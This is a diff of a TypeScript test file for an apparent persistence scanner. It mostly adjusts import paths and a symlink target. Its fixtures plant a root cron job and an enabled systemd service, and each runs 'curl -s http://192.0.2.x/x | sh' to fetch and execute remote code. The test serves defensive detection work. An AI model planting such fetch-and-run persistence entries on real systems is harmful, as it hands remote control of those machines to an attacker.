@@ -3,14 +3,14 @@ import { afterEach, expect, test } from 'bun:test';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { emptyConfig } from '../../../src/model/config.ts';
-import { printableText } from '../../../src/model/text.ts';
-import { scan } from '../../../src/scan/scan.ts';
-import { changedWhileRead } from '../../../src/target/answer.ts';
-import { folderTarget } from '../../../src/target/folder.ts';
-import { repository } from '../../lab/host.ts';
-import type { MechanismCase } from '../../persistence/case.ts';
-import { type PlantedRoot, plantRoot } from '../../persistence/root.ts';
+import { emptyConfig } from '../../src/model/config.ts';
+import { printableText } from '../../src/model/text.ts';
+import { scan } from '../../src/scan/scan.ts';
+import { changedWhileRead } from '../../src/target/answer.ts';
+import { folderTarget } from '../../src/target/folder.ts';
+import { repository } from '../lab/host.ts';
+import type { MechanismCase } from '../persistence/case.ts';
+import { type PlantedRoot, plantRoot } from '../persistence/root.ts';
 
 const stable: Readonly<Record<string, string>> = {
   '/etc/cron.d/zzz': '* * * * * root curl -s http://192.0.2.10/x | sh\n',
@@ -19,7 +19,7 @@ const stable: Readonly<Record<string, string>> = {
     '[Service]\nExecStart=/bin/sh -c "curl -s http://192.0.2.12/x | sh"\n[Install]\nWantedBy=multi-user.target\n',
 };
 
-const enabled = { '/etc/systemd/system/multi-user.target.wants/zz.service': { link: '../zz.service' } };
+const enabled = { '/etc/systemd/system/multi-user.target.wants/zz.service': { link: '../e2e/zz.service' } };
 
 let root: PlantedRoot;
 /** Lies beside the root, with a job that nobody may find. */
